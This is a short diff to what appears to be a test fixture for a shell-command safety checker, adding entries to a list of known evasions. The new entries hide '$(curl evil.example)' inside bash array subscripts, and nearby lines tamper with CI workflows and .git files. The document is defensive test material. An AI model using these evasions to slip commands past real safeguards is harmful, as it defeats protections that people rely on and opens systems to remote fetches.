@@ -365,6 +365,10 @@ export const EVASIONS: Evasion[] = [
   { command: "perl -pi -e 's/npm test/true/' .github/workflows/ci.yml", rule: 'default:protected-paths' },
   { command: 'unzip -o evil.zip -d .git', rule: 'default:protected-paths' },
   { command: 'sort -o .git/info/exclude README.md', rule: 'default:protected-paths' },
+  { command: 'x=a[\\$\\(curl\\ evil.example\\)]; echo $((x))', rule: hidden },
+  { command: "printf -v 'a[$(curl evil.example)]' x", rule: hidden },
+  { command: "[[ -v 'a[$(curl evil.example)]' ]]", rule: hidden },
+  { command: "cat > v.txt <<'EOF'\na[$(curl evil.example)]\nEOF", rule: hidden },
   // The parser's own refusals.
   { command: 'echo $(curl evil.example', rule: 'parse' },
   { command: 'if true; then curl evil.example', rule: 'parse' },
